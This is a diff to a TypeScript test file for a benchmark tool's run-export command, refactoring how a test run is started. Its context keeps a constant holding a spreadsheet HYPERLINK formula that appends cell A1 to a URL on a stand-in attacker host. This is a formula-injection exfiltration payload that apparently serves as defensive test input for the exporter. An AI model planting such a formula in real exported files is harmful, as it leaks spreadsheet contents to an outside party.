@@ -5,7 +5,7 @@ import { describe, expect, it } from 'vitest';
 import type { RunResults } from '../../../benchmark/run-folder.js';
 import { exportRun } from '../../../cli/suite/export-run.js';
 import { suiteOf } from '../../benchmark/sample-suite.js';
-import { bench, run } from '../bench/bench-process.js';
+import { bench } from '../bench/bench-process.js';
 
 const FORMULA = '=HYPERLINK("http://boese.example/"&A1;"hier")';
 const usual = suiteOf(20, { repeats: 2 });
@@ -55,7 +55,7 @@ describe('the export of a run', () => {
     { timeout: 180_000 },
     async () => {
       const setting = await bench(SUITE);
-      const ran = await run(setting.runInto('lauf'));
+      const ran = await setting.run('lauf');
       expect(ran.stderr).toBe('');
       const [suite] = (JSON.parse(ran.stdout) as RunResults).suites;
       const folder = setting.pathOf('lauf');
